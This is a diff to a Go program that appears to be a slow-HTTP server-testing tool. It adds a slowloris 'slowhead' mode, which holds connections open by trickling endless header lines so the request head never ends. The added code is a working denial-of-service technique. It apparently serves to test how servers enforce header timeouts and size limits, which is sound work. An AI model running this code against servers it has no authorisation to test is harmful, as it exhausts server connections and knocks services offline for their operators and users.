@@ -108,9 +108,12 @@ func (a *attack) slot(i int) {
 		a.openedAt[i].Store(t0.UnixNano())
 		a.connOpened()
 		var o outcome
-		if a.cfg.mode == "slowbody" {
+		switch a.cfg.mode {
+		case "slowbody":
 			o = a.slowBody(c)
-		} else {
+		case "slowhead":
+			o = a.slowHead(c)
+		default:
 			o = a.slowRead(c)
 		}
 		lived := time.Since(t0)
@@ -215,6 +218,52 @@ func (a *attack) slowBody(c net.Conn) outcome {
 				}
 				sent += k
 			}
+			next = time.Now().Add(cfg.every)
+		default:
+			return outcome{hp.answer(), endHow(err)}
+		}
+	}
+}
+
+// headFiller is the header line slowHead repeats. Every line of it is non-empty, so
+// the stream never holds the empty line that would end the head, however it is cut.
+const headFiller = "X-a: b\r\n"
+
+// slowHead (slowloris) sends a request line and Host, then cfg.bytes of further header
+// lines every cfg.every, never the empty line: the head stays open until the server
+// gives up on it (a timeout for the whole head, or a limit on its size).
+func (a *attack) slowHead(c net.Conn) outcome {
+	cfg := a.cfg
+	// The debug header goes with the first lines, as on every request of this tool
+	// (main.go); whether a server honours it in a head it never finished reading is
+	// the server's business, and the report shows which it did.
+	head := fmt.Sprintf("GET %s HTTP/1.1\r\nHost: %s\r\n%s", cfg.path, cfg.host, debugLine(cfg))
+	var hp headParser
+	if err := a.write(c, []byte(head)); err != nil {
+		return a.afterWriteError(c, &hp, err)
+	}
+	// Pieces are cut from a run of filler lines long enough for any offset within a
+	// line plus cfg.bytes, so that piece after piece continues the same stream.
+	fill := []byte(strings.Repeat(headFiller, cfg.bytes/len(headFiller)+2))
+	off := 0
+	buf := make([]byte, 1024)
+	next := time.Now().Add(cfg.every)
+	for {
+		_ = c.SetReadDeadline(next)
+		n, err := c.Read(buf)
+		if n > 0 {
+			a.bytesIn.Add(int64(n))
+			if hp.feed(buf[:n]) {
+				return a.afterAnswer(c, &hp) // the head never ended: any answer is a refusal
+			}
+		}
+		switch {
+		case err == nil:
+		case isTimeout(err):
+			if err := a.write(c, fill[off:off+cfg.bytes]); err != nil {
+				return a.afterWriteError(c, &hp, err)
+			}
+			off = (off + cfg.bytes) % len(headFiller)
 			next = time.Now().Add(cfg.every)
 		default:
 			return outcome{hp.answer(), endHow(err)}
